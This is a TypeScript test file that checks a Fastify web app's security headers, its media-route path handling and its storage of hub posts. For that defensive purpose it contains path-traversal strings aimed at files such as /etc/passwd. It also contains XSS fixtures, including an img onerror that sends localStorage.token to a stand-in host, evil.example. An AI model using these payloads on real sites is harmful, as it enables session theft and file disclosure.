import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LightMyRequestResponse } from 'fastify';
import { describeEachDb } from '../harness.ts';
import { player, startSecurityServer, type Player, type SecurityServer } from './support.ts';

const DAY = 86_400_000;
const WEB_DIST = join(import.meta.dirname, '../../../web/dist');

/** A built page and a media folder, as main.ts serves them. */
function siteFolders() {
  const root = mkdtempSync(join(tmpdir(), 'site-'));
  mkdirSync(join(root, 'web/assets'), { recursive: true });
  mkdirSync(join(root, 'media'));
  writeFileSync(
    join(root, 'web/index.html'),
    '<!doctype html><html><head><script type="module" src="/assets/app.js"></script></head><body><div id="root"></div></body></html>',
  );
  writeFileSync(join(root, 'web/assets/app.js'), 'console.log(1)');
  writeFileSync(join(root, 'media/ava-card.jpg'), 'jpg');
  writeFileSync(join(root, 'secret.txt'), 'outside the media folder');
  return { webDist: join(root, 'web'), mediaDirs: [join(root, 'media')] };
}

function directives(res: LightMyRequestResponse): Map<string, string[]> {
  const csp = String(res.headers['content-security-policy'] ?? '');
  return new Map(
    csp
      .split(';')
      .map((d) => d.trim())
      .filter(Boolean)
      .map((d) => {
        const [name = '', ...values] = d.split(/\s+/);
        return [name, values];
      }),
  );
}

/** What every answer must carry, whatever its path or status (a bare error may be stricter still: default-src 'none'). */
function expectSafeHeaders(res: LightMyRequestResponse, label: string) {
  const csp = directives(res);
  expect(csp.size, `${label}: no CSP`).toBeGreaterThan(0);
  const fallback = csp.get('default-src');
  const none = fallback?.length === 1 && fallback[0] === "'none'";
  const get = (name: string) => csp.get(name) ?? (none ? ["'none'"] : undefined);
  expect(
    none || (fallback?.length === 1 && fallback[0] === "'self'"),
    `${label}: default-src ${fallback?.join(' ')}`,
  ).toBe(true);
  expect(get('script-src'), `${label}: script-src allows more than the own origin`).toEqual(
    none ? ["'none'"] : ["'self'"],
  );
  expect(get('script-src-attr'), `${label}: inline event handlers`).toEqual(["'none'"]);
  expect(csp.get('frame-ancestors'), label).toEqual(["'none'"]);
  expect(get('object-src'), label).toEqual(["'none'"]);
  expect(String(csp.get('base-uri')), label).toMatch(/^'(self|none)'$/);
  const all = String(res.headers['content-security-policy']);
  expect(all, `${label}: eval allowed`).not.toMatch(/unsafe-eval|wasm-unsafe-eval/);
  for (const [name, values] of csp)
    if (name.startsWith('script') || name === 'default-src')
      expect(values, `${label}: ${name}`).not.toContain("'unsafe-inline'");
  for (const values of csp.values()) expect(values, `${label}: a wildcard source`).not.toContain('*');
  expect(res.headers['x-content-type-options'], label).toBe('nosniff');
  expect(String(res.headers['referrer-policy']), label).toMatch(
    /^(no-referrer|same-origin|strict-origin|strict-origin-when-cross-origin)$/,
  );
  expect(String(res.headers['x-frame-options']), label).toMatch(/^(DENY|SAMEORIGIN)$/i);
  expect(res.headers['x-powered-by'], label).toBeUndefined();
}

describeEachDb('security: headers and content in the page', (kind) => {
  let t: SecurityServer;
  let prod: SecurityServer;
  let reader: Player;
  beforeAll(async () => {
    const site = siteFolders();
    t = await startSecurityServer(kind, { server: site });
    prod = await startSecurityServer(kind, {
      server: site,
      config: { NODE_ENV: 'production', GEO_TEST_HEADER: 'false' },
      seed: false,
    });
    reader = await player(t);
  });
  afterAll(async () => {
    await t.close();
    await prod.close();
  });

  const PATHS = [
    '/',
    '/app/profile/me',
    '/assets/app.js',
    '/api/character/stats',
    '/api/hubPost/all',
    '/api/nope',
    '/trpc/character.stats',
    '/trpc/nope',
    '/public/ava-card.jpg',
    '/public/missing.jpg',
    '/healthz',
    '/api/character/get/%FF',
  ];

  it('sends a strict CSP, nosniff, a referrer policy and frame denial on pages, API calls, errors and media', async () => {
    for (const url of PATHS) {
      const res = await t.server.inject({ method: 'GET', url, headers: { authorization: `Bearer ${reader.token}` } });
      expectSafeHeaders(res, `GET ${url} (${res.statusCode})`);
    }
    const post = await t.server.inject({
      method: 'POST',
      url: '/api/auth/emailLogin',
      payload: '{"email":',
      headers: { 'content-type': 'application/json' },
    });
    expectSafeHeaders(post, 'POST malformed');
  });

  it('sends HSTS (at least 180 days) in production on every path', async () => {
    for (const url of PATHS) {
      const res = await prod.server.inject({ method: 'GET', url });
      expectSafeHeaders(res, `prod GET ${url}`);
      const hsts = String(res.headers['strict-transport-security'] ?? '');
      expect(Number(/max-age=(\d+)/.exec(hsts)?.[1] ?? 0), `prod GET ${url}: ${hsts}`).toBeGreaterThanOrEqual(
        15_552_000,
      );
    }
  });

  it('serves media only from its folder (no traversal) and API answers as JSON, never as a page', async () => {
    for (const url of [
      '/public/../secret.txt',
      '/public/%2e%2e/secret.txt',
      '/public/..%2fsecret.txt',
      '/public/%2e%2e%2fsecret.txt',
      '/public/ava-card.jpg%00.html',
      '/public//etc/passwd',
    ]) {
      const res = await t.server.inject({ method: 'GET', url });
      expect(res.payload, url).not.toContain('outside the media folder');
      // a dot-segment is resolved before routing (/public/../x is /x): the page's fallback answers, never the file
      if (res.statusCode < 400) expect(res.payload, url).toContain('<div id="root">');
    }
    for (const url of ['/api/character/stats', '/api/nope', '/trpc/character.stats']) {
      const res = await t.server.inject({ method: 'GET', url });
      expect(String(res.headers['content-type']), url).toMatch(/^application\/json/);
    }
  });

  it('the built page (when present) loads scripts only from files: nothing inline for the CSP to allow', () => {
    if (!existsSync(join(WEB_DIST, 'index.html'))) return;
    const html = readFileSync(join(WEB_DIST, 'index.html'), 'utf8');
    for (const [, attributes = '', body = ''] of html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)) {
      expect(attributes, 'an inline script').toMatch(/\bsrc=/);
      expect(body.trim()).toBe('');
    }
    expect(html).not.toMatch(/\son[a-z]+=/i);
  });

  describe('hub markdown', () => {
    const EVIL = [
      '# Poll <script>alert(document.cookie)</script>',
      '[free tier](javascript:alert(1)) and [login]({token}) and [mine](/app/login?t={token}) and [away](https://evil.example/?t={token})',
      '<img src=x onerror="fetch(`https://evil.example/`+localStorage.token)"> <a href="#" onclick="steal()">x</a>',
      '<iframe src="https://evil.example"></iframe><svg onload=alert(1)>',
    ].join('\n\n');

    beforeAll(async () => {
      await t.db.prisma.hubPost.create({
        data: {
          id: 'poll-evil',
          description: EVIL,
          descriptionTrans: { es: EVIL },
          options: ['<b>A</b>', 'javascript:B'],
          endTimestamp: new Date(t.clock.now + DAY),
        },
      });
    });

    it('is stored and answered exactly as written, inside JSON, and never turned into HTML', async () => {
      const auth = { authorization: `Bearer ${reader.token}` };
      const rest = await t.server.inject({
        method: 'GET',
        url: '/api/hubPost/get/poll-evil?language=es',
        headers: auth,
      });
      const trpc = await t.server.inject({
        method: 'GET',
        url: `/trpc/hub.get?input=${encodeURIComponent('{"id":"poll-evil"}')}`,
        headers: auth,
      });
      const list = await t.server.inject({ method: 'GET', url: '/api/hubPost/all', headers: auth });
      for (const res of [rest, trpc, list]) {
        expect(res.statusCode).toBe(200);
        expect(String(res.headers['content-type'])).toMatch(/^application\/json/);
        expectSafeHeaders(res, 'hub answer');
      }
      const post = rest.json<{ description: string; descriptionTrans: string; options: string[] }>();
      expect(post.description).toBe(EVIL);
      expect(post.descriptionTrans).toBe(EVIL);
      expect(post.options).toEqual(['<b>A</b>', 'javascript:B']);
      expect(trpc.json<{ result: { data: { description: string } } }>().result.data.description).toBe(EVIL);
      // the server never substitutes {token}: only the page does, in links to its own origin
      expect(rest.payload).toContain('{token}');
      expect(rest.payload).not.toContain(reader.token);
    });
  });
});
